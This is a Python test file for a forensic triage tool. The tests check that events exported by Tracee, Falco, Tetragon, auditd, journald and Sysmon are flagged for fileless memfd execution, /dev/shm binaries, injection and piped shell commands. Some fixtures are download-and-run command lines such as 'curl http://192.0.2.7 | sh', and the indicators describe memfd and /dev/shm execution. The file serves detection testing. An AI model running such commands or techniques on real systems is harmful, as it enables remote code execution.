"""``--events``: other tools' events are judged by what they say, whether their own rules fired or not."""

from __future__ import annotations

import base64
import gzip
import io
import json
import struct
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.builders import process, snapshot
from tests.conftest import CHECKOUT
from tests.linux_image.test_logs import MEMFD, event, loud
from tests.linux_image.trees import indicators
from triage.analyze import analyze
from triage.foreign_events import with_events
from triage.linux_image.falco_events import pairs
from triage.model import Report, Snapshot, Why
from triage.model.linux_image import LogEvent
from triage.snapshot import dumps, loads

Json = dict[str, Any]


def taken(*lines: Json | str | bytes) -> Snapshot:
    """A snapshot of a file with these lines, through its bytes."""
    raw = [
        x if isinstance(x, bytes) else (x if isinstance(x, str) else json.dumps(x)).encode()
        for x in lines
    ]
    return loads(dumps(with_events(None, "events.json", io.BytesIO(b"\n".join(raw) + b"\n"))))


def judged(*lines: Json | str | bytes) -> Report:
    return analyze(taken(*lines))


def events(*lines: Json | str | bytes) -> list[LogEvent]:
    return [a for a in taken(*lines).artifacts if isinstance(a, LogEvent)]


def tetragon(binary: str, words: str = "", parent: str = "/usr/bin/bash", **more: Any) -> Json:
    """An execution as Tetragon exports it."""
    process = {"pid": 44, "uid": 0, "cwd": "/", "binary": binary, "arguments": words,
               "start_time": "2026-01-02T03:04:05.678Z", **more}  # fmt: skip
    return {"process_exec": {"process": process, "parent": {"pid": 9, "binary": parent}},
            "node_name": "n", "time": "2026-01-02T03:04:05.678Z"}  # fmt: skip


NAMELESS: Json = {"binary_properties": {"file": {"inode": {"number": "45021", "links": 0}}}}


# --- Tracee -------------------------------------------------------------------------------------


def tracee(name: str, threat: bool = False, exe: str = "/usr/bin/bash", **data: Any) -> Json:
    """The current shape."""
    rows = []
    for key, value in data.items():
        kind = {str: "str", int: "u_int32", list: "str_array"}[type(value)]
        rows.append({"name": key, kind: {"value": value} if kind == "str_array" else value})
    found: Json = {
        "timestamp": "2026-01-02T03:04:05.678901234Z", "id": 7500, "name": name,
        "policies": {"matched": ["default"]},
        "workload": {
            "process": {
                "executable": {"path": exe}, "host_pid": 77, "pid": 7, "real_user": {"id": 1000},
                "thread": {"name": "x", "start_time": "2026-01-02T03:04:05Z"},
                "ancestors": [{"host_pid": 5, "thread": {"name": "nginx"}}],
            },
            "container": {"id": "abcdef"},
        },
        "data": rows,
    }  # fmt: skip
    if threat:
        technique = {"id": "T1620", "name": "Reflective Code Loading"}
        found["threat"] = {"name": "Fileless execution detected", "severity": 3,
                           "mitre": {"technique": technique}}  # fmt: skip
        found["detected_from"] = {"id": 1015, "name": "sched_process_exec", "data": rows}
        found["data"] = []
    return found


def legacy(name: str, args: Json, **more: Any) -> Json:
    """``trace.Event``."""
    rows = [{"name": k, "type": "x", "value": v} for k, v in args.items()]
    return {
        "timestamp": 1_767_225_600_000_000_000, "processName": "x", "hostProcessId": 77,
        "hostParentProcessId": 5, "userId": 0, "containerId": "", "eventName": name, "args": rows, **more,
    }  # fmt: skip


def finding(identity: str, inner: Json, technique: str = "T1620") -> Json:
    return {
        "Event": inner,
        "SigMetadata": {"ID": identity, "Version": "1", "Name": "n", "EventName": "e",
                        "Properties": {"Severity": 3, "external_id": technique}},
        "Data": None,
    }  # fmt: skip


ELF64 = base64.b64encode(Path("/proc/self/exe").read_bytes()[:4096]).decode()
EXEC = "sched_process_exec"
HARMFUL: tuple[tuple[str, Json | str | bytes, str], ...] = (
    ("tracee, raised", tracee("fileless_execution", True, pathname="memfd:x", argv=["x", "-d"]), "logged-exe-memfd"),
    ("tracee, not raised", tracee(EXEC, pathname="memfd:", argv=["x"]), "logged-exe-memfd"),
    ("tracee, shm", tracee(EXEC, pathname="/dev/shm/x", argv=["/dev/shm/x"]), "logged-exe-volatile"),
    ("tracee, run/shm", tracee(EXEC, pathname="/run/shm/x", argv=["x"]), "logged-exe-volatile"),
    ("tracee, script", tracee(EXEC, pathname="/usr/bin/bash", argv=["bash", "/dev/shm/a.sh"]),
     "logged-script-volatile"),
    ("tracee, command", tracee(EXEC, pathname="/usr/bin/bash", argv=["bash", "-c", "curl x | sh"]), "logged-command"),
    ("tracee, any event of a memfd's process", tracee("security_socket_connect", exe="memfd:x"), "logged-exe-memfd"),
    ("tracee, library", tracee("shared_object_loaded", exe="/usr/sbin/sshd", pathname="/dev/shm/x.so"),
     "logged-library"),
    ("tracee, library in a memfd", tracee("shared_object_loaded", exe="/usr/sbin/sshd", pathname="memfd:lib"),
     "logged-library"),
    ("tracee, ptrace", tracee("ptrace", exe="/usr/bin/python3", request="PTRACE_POKETEXT", pid=9), "logged-injection"),
    ("tracee, a program written to memory", tracee("magic_write", pathname="/dev/shm/x", bytes=ELF64),
     "logged-payload"),
    ("tracee, memfd_create", tracee("memfd_create", exe="/usr/bin/python3.11", flags="MFD_CLOEXEC"),
     "logged-memfd-created"),
    ("tracee, wrapped numbers", {**tracee(EXEC, pathname="memfd:x"), "timestamp": {"seconds": 9, "nanos": 1}},
     "logged-exe-memfd"),
    ("legacy", legacy(EXEC, {"pathname": "memfd:x", "argv": ["x"]}), "logged-exe-memfd"),
    ("legacy, shm", legacy(EXEC, {"pathname": "/dev/shm/x", "argv": ["x"]}), "logged-exe-volatile"),
    ("legacy, raised", legacy("fileless_execution", {"triggeredBy": {
        "name": EXEC, "args": [{"name": "pathname", "value": "memfd:x"}]}},
        metadata={"Properties": {"signatureID": "TRC-105", "external_id": "T1620"}}), "logged-exe-memfd"),
    ("finding", finding("TRC-105", legacy(EXEC, {"pathname": "memfd:x"})), "logged-exe-memfd"),
    ("finding without an event", finding("TRC-105", {}), "logged-foreign-alert"),
    ("finding about injection", finding("TRC-3", {}, "T1055.009"), "logged-foreign-alert"),
    # Falco
    ("falco, memfd", {"rule": "r", "priority": "Critical", "output_fields": {"proc.exepath": "memfd:x"}},
     "logged-exe-memfd"),
    ("falco, flags", {"rule": "mine", "priority": "Notice", "output_fields": {
        "proc.exepath": "/proc/self/fd/3", "proc.name": "3", "evt.arg.flags": "EXE_WRITABLE|EXE_FROM_MEMFD"}},
     "logged-exe-memfd"),
    ("falco, shm", {"rule": "mine", "priority": "Notice", "output_fields": {"proc.exepath": "/dev/shm/x"}},
     "logged-exe-volatile"),
    ("falco, command", {"rule": "mine", "priority": "Debug", "output_fields": {
        "proc.exepath": "/usr/bin/bash", "proc.cmdline": "bash -c curl http://192.0.2.7 | sh"}}, "logged-command"),
    ("falco, only a rule", {"rule": "Fileless execution via memfd_create", "priority": "Critical", "output": "x"},
     "logged-foreign-alert"),
    ("falco, only a tag", {"rule": "mine", "priority": "Error", "output": "x", "tags": ["T1055.009"]},
     "logged-foreign-alert"),
    ("falco, only the output", {"rule": "mine", "priority": "Error", "output":
        "x | proc_exepath=memfd:evil parent=python3 exe_flags=EXE_WRITABLE|EXE_FROM_MEMFD"}, "logged-exe-memfd"),
    ("falco, text", ("19:20:21.123456789: Critical Fileless execution via memfd_create (user=root "
     "process=3 proc_exepath=memfd:evil parent=python3 command=evil -x terminal=0)"), "logged-exe-memfd"),
    # Tetragon
    ("tetragon, no name", tetragon("/proc/self/fd/3", "--x", "/usr/bin/python3", **NAMELESS), "logged-descriptor"),
    ("tetragon, shm", tetragon("/dev/shm/x"), "logged-exe-volatile"),
    ("tetragon, command", tetragon("/bin/bash", '-c "curl -s http://192.0.2.7 | sh"'), "logged-command"),
    # others
    ("audit", event(MEMFD, ("x",)), "logged-exe-memfd"),
    ("journal, JSON", {"__CURSOR": "c", "__REALTIME_TIMESTAMP": "1767225600000000", "_EXE": MEMFD, "MESSAGE": "x"},
     "logged-exe-memfd"),
    ("journal, JSON, bytes", {"__CURSOR": "c", "_EXE": list(MEMFD.encode()), "MESSAGE": "x"}, "logged-exe-memfd"),
    ("journal, export", b"__CURSOR=c\n__REALTIME_TIMESTAMP=1767225600000000\n_EXE=/dev/shm/x\nMESSAGE=hello\n",
     "logged-exe-volatile"),
    ("journal, export, binary", b"__CURSOR=c\n_EXE\n" + struct.pack("<Q", len(MEMFD)) + MEMFD.encode() + b"\n"
     b"MESSAGE=x\n", "logged-exe-memfd"),
    ("sysmon", ('<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID></System><EventData>'
     '<Data Name="Image">/dev/shm/x</Data></EventData></Event>'), "logged-exe-volatile"),
)  # fmt: skip
BENIGN: tuple[tuple[str, Json | str | bytes], ...] = (
    ("tracee, ls", tracee(EXEC, pathname="/usr/bin/ls", argv=["ls", "/dev/shm"])),
    ("tracee, shm in the middle", tracee(EXEC, pathname="/some/dev/shm/x", argv=["x"])),
    ("tracee, memfd in the middle", tracee(EXEC, pathname="/some/memfd:x", argv=["x"])),
    ("tracee, open", tracee("security_file_open", pathname="/dev/shm/data", flags="O_RDWR")),
    ("tracee, runc", {**tracee(EXEC, pathname="memfd:runc_cloned:/proc/self/exe", argv=["runc", "init"])}),
    ("tracee, dpkg writes a program", tracee("magic_write", exe="/usr/bin/dpkg", pathname="/usr/bin/x", bytes=ELF64)),
    ("tracee, libraries", tracee("shared_object_loaded", pathname="/usr/lib/libc.so.6")),
    ("tracee, .NET", tracee("shared_object_loaded", exe="/usr/bin/dotnet", pathname="memfd:doublemapper")),
    ("tracee, another rule", {**tracee("hooked_syscall"), "threat": {"mitre": {"technique": {"id": "T1014"}}}}),
    ("legacy, ls", legacy(EXEC, {"pathname": "/usr/bin/ls", "argv": ["ls"]})),
    ("falco, shell", {"rule": "Terminal shell in container", "priority": "Notice", "output_fields": {
        "proc.exepath": "/usr/bin/bash", "proc.cmdline": "bash"}}),
    ("falco, runc", {"rule": "Fileless execution via memfd_create", "priority": "Critical", "tags": ["T1620"],
        "output_fields": {"proc.exepath": "memfd:runc_cloned:/proc/self/exe", "proc.name": "6",
                          "proc.cmdline": "6 init", "proc.pname": "runc"}}),
    ("tetragon, ls", tetragon("/usr/bin/ls", "/dev/shm")),
    ("tetragon, runc", tetragon("/proc/self/fd/6", "init", "/usr/bin/runc", **NAMELESS)),
    ("tetragon, exit", {"process_exit": tetragon("/dev/shm/x")["process_exec"]}),
    ("tetragon, nothing", {"process_exec": {"process": [], "parent": None}}),
    ("audit", event("/usr/bin/ls", ("ls",))),
    ("journal", {"__CURSOR": "c", "_EXE": "/usr/sbin/sshd", "MESSAGE": "python: memfd_create()"}),
    ("export", b"__CURSOR=c\n_EXE=/usr/sbin/sshd\nMESSAGE=memfd\n"),
)  # fmt: skip


@pytest.mark.parametrize(
    ("line", "expected"), [c[1:] for c in HARMFUL], ids=[c[0] for c in HARMFUL]
)
def test_an_event_is_judged(line: Json | str | bytes, expected: str) -> None:
    found = judged(line)
    assert expected in loud(found)
    assert [gap for gap in found.gaps if gap.why is Why.MALFORMED] == []


@pytest.mark.parametrize("line", [c[1] for c in BENIGN], ids=[c[0] for c in BENIGN])
def test_an_ordinary_event_is_silent(line: Json | str | bytes) -> None:
    found = judged(line)
    assert loud(found) == set()
    assert found.gaps == ()


def test_what_an_event_says_is_kept() -> None:
    (one,) = events(tracee(EXEC, pathname="memfd:x", argv=["x", "-d"]))
    assert (one.exe, one.cmdline, one.pid, one.ppid, one.uid) == (MEMFD, ("x", "-d"), 77, 5, 1000)
    assert (one.time, one.parent, one.container) == ("2026-01-02T03:04:05Z", "nginx", "abcdef")
    (two,) = events(legacy(EXEC, {"pathname": "memfd:x"}))
    assert (two.exe, two.pid, two.time) == (MEMFD, 77, "2026-01-01T00:00:00Z")


def test_unknown_lines_are_counted() -> None:
    found = judged("nonsense", '{"a": 1}', '{"broken', tracee(EXEC, pathname="memfd:x"))
    assert sorted(gap.detail for gap in found.gaps) == [
        "1 lines are damaged JSON",
        "2 of 4 lines are of no known shape; not judged",
    ]


def test_events_beside_a_snapshot_leave_it_as_it_was() -> None:
    base = snapshot(process(exe="/dev/shm/x"))
    found = with_events(
        base, "e", io.BytesIO(json.dumps(tracee(EXEC, pathname="memfd:x")).encode())
    )
    assert found.artifacts[:1] == base.artifacts
    assert found.started_at == base.started_at
    assert {"exe-in-shm", "logged-exe-memfd"} <= indicators(analyze(found))


def test_the_same_file_gives_the_same_bytes() -> None:
    lines = (tracee(EXEC, pathname="memfd:x"), legacy(EXEC, {"pathname": "/dev/shm/x"}))
    assert dumps(taken(*lines)) == dumps(taken(*lines))


def test_packed_events_are_unpacked() -> None:
    packed = gzip.compress(json.dumps(tracee(EXEC, pathname="memfd:x")).encode())
    assert "logged-exe-memfd" in indicators(analyze(with_events(None, "e.gz", io.BytesIO(packed))))


@pytest.mark.parametrize(
    "line",
    [
        b"{" * 5000, b'{"name": "x", "workload": 1, "data": 2, "timestamp": 3}', b"[" * 200_000,
        b'{"eventName": [], "args": {}}', b'{"SigMetadata": 1}', b'{"SigMetadata": {"ID": {}}, "Event": []}',
        b'{"rule": [], "priority": {}, "output_fields": {"proc.exepath": {"a": 1}}}', b"\xff\xfe\x00" * 999,
        b'{"rule": 1, "priority": 1, "output": 7, "tags": 3, "time": 1e400}', b"_X\n" + b"\xff" * 40,
        b'{"__CURSOR": 1, "_EXE": [[[]]], "MESSAGE": {"a": 1}}', b"type=SYSCALL msg=audit(9:9): exe=2F6D656D66643A0",
        b'{"timestamp": 999999999999999999999999, "eventName": "x", "args": [1, 2]}',
        b'{"timestamp": "0000-99-99T99:99:99Z", "name": "x", "data": [{"name": {}, "str": 1}]}',
    ],
)  # fmt: skip
def test_hostile_lines_neither_raise_nor_stop_the_rest(line: bytes) -> None:
    evil = json.dumps(tracee(EXEC, pathname="memfd:x")).encode()
    assert "logged-exe-memfd" in indicators(judged(evil, line, b"", evil))


def test_a_line_without_end_is_skipped_in_bounded_memory() -> None:
    huge = b"x" * (9 << 20)
    found = judged(huge, tracee(EXEC, pathname="memfd:x"))
    assert "logged-exe-memfd" in indicators(found)
    assert any("longer than any event" in gap.detail for gap in found.gaps)


def test_pairs_of_a_text_line() -> None:
    text = "x (user=root proc_exepath=memfd:a b parent=sh command=evil -x y terminal=0)"
    assert pairs(text) == {"user": "root", "proc_exepath": "memfd:a b", "parent": "sh",
                           "command": "evil -x y", "terminal": "0"}  # fmt: skip


# --- the command ----------------------------------------------------------------------------------


def triage(*arguments: str | Path) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "triage", *map(str, arguments)],
        capture_output=True,
        timeout=120,
        cwd=CHECKOUT,
    )


def test_analyze_takes_events_alone_and_beside_a_snapshot(tmp_path: Path) -> None:
    path = tmp_path / "e.json"
    path.write_text(json.dumps(tracee(EXEC, pathname="memfd:x")))
    alone = triage("analyze", "--events", path, "-q", "-o", "json=-", "--fail-on", "critical")
    assert alone.returncode == 1
    assert json.loads(alone.stdout)["subjects"][0]["facts"]["exe"] == MEMFD
    base = tmp_path / "s.jsonl"
    base.write_bytes(dumps(snapshot(process(exe="/dev/shm/x"))))
    both = triage("analyze", base, "--events", path, "-q", "-o", "json=-")
    assert both.returncode == 0
    assert {s["kind"] for s in json.loads(both.stdout)["subjects"]} == {"process", "log-event"}


@pytest.mark.parametrize(
    ("arguments", "code", "words"),
    [
        ((), 2, "nothing to judge"),
        (("--events", "/nonexistent/file"), 4, "/nonexistent/file"),
        (("-", "--events", "-"), 2, "standard input"),
        (("--events", "/dev/null"), 3, "nothing in these files"),
    ],
)
def test_bad_uses_say_why(arguments: tuple[str, ...], code: int, words: str) -> None:
    done = triage("analyze", *arguments)
    assert done.returncode == code
    assert words in done.stderr.decode()
    assert "Traceback" not in done.stderr.decode()
